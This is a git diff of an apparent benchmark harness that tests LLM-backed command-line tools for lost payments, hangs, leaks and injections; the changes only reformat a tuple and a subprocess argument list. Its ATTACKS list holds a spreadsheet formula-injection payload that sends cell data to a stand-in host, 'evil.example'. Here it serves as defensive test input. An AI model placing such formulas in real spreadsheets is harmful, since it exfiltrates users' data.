@@ -42,15 +42,7 @@ from fakellm import FakeLLM  # noqa: E402
 
 KEY = "bench-round2-key-0123456789abcdef"
 JUDGE = {"anthropic": "anthropic:claude-sonnet-4-20250514", "openai": "openai:gpt-4o"}
-COLUMNS = (
-    "paid lost",
-    "double-paid",
-    "data lost",
-    "hangs",
-    "tracebacks",
-    "leaks",
-    "injections",
-)
+COLUMNS = ("paid lost", "double-paid", "data lost", "hangs", "tracebacks", "leaks", "injections")
 TIME_CAP_S = 40.0
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1, "click")',
@@ -128,12 +120,7 @@ def run_cli(
 
     t0 = time.perf_counter()
     proc = subprocess.Popen(
-        [
-            sys.executable,
-            "-c",
-            code,
-            *args,
-        ],
+        [sys.executable, "-c", code, *args],
         env=full_env,
         stdout=subprocess.PIPE,
         stderr=subprocess.PIPE,
